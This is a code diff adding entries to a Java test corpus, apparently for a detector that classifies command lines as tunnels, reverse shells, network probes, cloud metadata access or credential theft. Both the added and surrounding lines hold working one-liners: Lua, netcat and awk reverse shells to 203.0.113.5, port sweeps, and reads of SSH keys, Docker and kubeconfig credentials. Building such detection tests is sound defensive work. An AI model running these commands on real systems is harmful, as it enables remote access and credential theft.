@@ -117,6 +117,9 @@ final class CommandLineCorpus {
                 hit(TUNNEL, "tunnel.socat.forward", "socat tcp4-listen:2222,reuseaddr,fork tcp:203.0.113.5:22"),
                 hit(TUNNEL, "tunnel.socat.forward", "socat TCP-LISTEN:1080,fork SOCKS4A:proxy.example:10.0.0.5:22,socksport=1080"),
                 hit(TUNNEL, "tunnel.socat.forward", "socat OPENSSL-LISTEN:443,cert=c.pem,fork TCP:127.0.0.1:22"),
+                hit(TUNNEL, "tunnel.tool.other", "bore local 22 --to 203.0.113.5"),
+                hit(TUNNEL, "tunnel.tool.other", "stunnel /tmp/st.conf"),
+                hit(TUNNEL, "tunnel.netcat-relay", "nc -l -p 9000 | nc 203.0.113.5 22"),
                 hit(TUNNEL, "tunnel.forward-spec", "./relay 0.0.0.0:9000:10.0.0.5:22"),
                 hit(TUNNEL, "tunnel.forward-spec", "python3 fwd.py --map 127.0.0.1:8080:172.16.0.2:80"),
                 // reverse shells
@@ -161,6 +164,8 @@ final class CommandLineCorpus {
                         + "c.pipe(sh.stdin);sh.stdout.pipe(c);});'"),
                 hit(REVERSE_SHELL, "reverse-shell.gawk-inet", "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.5/4444\"; while(1){"
                         + "s |& getline c; if(c){while ((c |& getline) > 0) print $0 |& s; close(c)}}}' /dev/null"),
+                hit(REVERSE_SHELL, "reverse-shell.script-socket", "lua -e \"require('socket');t=socket.tcp();t:connect('203.0.113.5','4444');"
+                        + "os.execute('/bin/sh -i <&3 >&3 2>&3')\""),
                 hit(REVERSE_SHELL, "reverse-shell.fifo-netcat", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f"),
                 hit(REVERSE_SHELL, "reverse-shell.fifo-netcat", "mknod /tmp/p p && /bin/sh 0</tmp/p | telnet 203.0.113.5 4444 1>/tmp/p"),
                 hit(REVERSE_SHELL, "reverse-shell.shell-pipe", "nc 203.0.113.5 4444 | /bin/bash"),
@@ -185,6 +190,7 @@ final class CommandLineCorpus {
                 hit(PROBE, "probe.netcat-sweep", "nc -z -w1 10.0.0.5 20-25"),
                 hit(PROBE, "probe.netcat-sweep", "for h in $(cat hosts); do nc -z -w1 $h 22; done"),
                 hit(PROBE, "probe.http-sweep", "for i in $(seq 1 254); do curl -s -m 1 http://10.0.0.$i:8080/; done"),
+                hit(PROBE, "probe.interpreter-sweep", "ruby -rsocket -e '(1..1024).each{|p| begin TCPSocket.new(\"10.0.0.5\",p);rescue;end}'"),
                 // metadata
                 hit(METADATA, "metadata.endpoint", "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
                 hit(METADATA, "metadata.endpoint", "curl -X PUT \"http://169.254.169.254/latest/api/token\" -H \"X-aws-ec2-metadata-token-ttl-seconds: 21600\""),
@@ -202,6 +208,8 @@ final class CommandLineCorpus {
                 hit(CREDENTIAL, "credential.cloud-cli", "cp -r $HOME/.config/gcloud /tmp/g"),
                 hit(CREDENTIAL, "credential.cloud-cli", "grep -r aws_secret_access_key /root/.aws/"),
                 hit(CREDENTIAL, "credential.kubeconfig", "cat ~/.kube/config"),
+                hit(CREDENTIAL, "credential.token-file", "cat ~/.docker/config.json"),
+                hit(CREDENTIAL, "credential.key-search", "find / -name id_rsa 2>/dev/null"),
                 hit(CREDENTIAL, "credential.ssh-private-key", "cat ~/.ssh/id_rsa"),
                 hit(CREDENTIAL, "credential.ssh-private-key", "base64 -w0 ~/.ssh/id_ed25519"),
                 hit(CREDENTIAL, "credential.ssh-private-key", "scp ~/.ssh/id_* u@h:"),
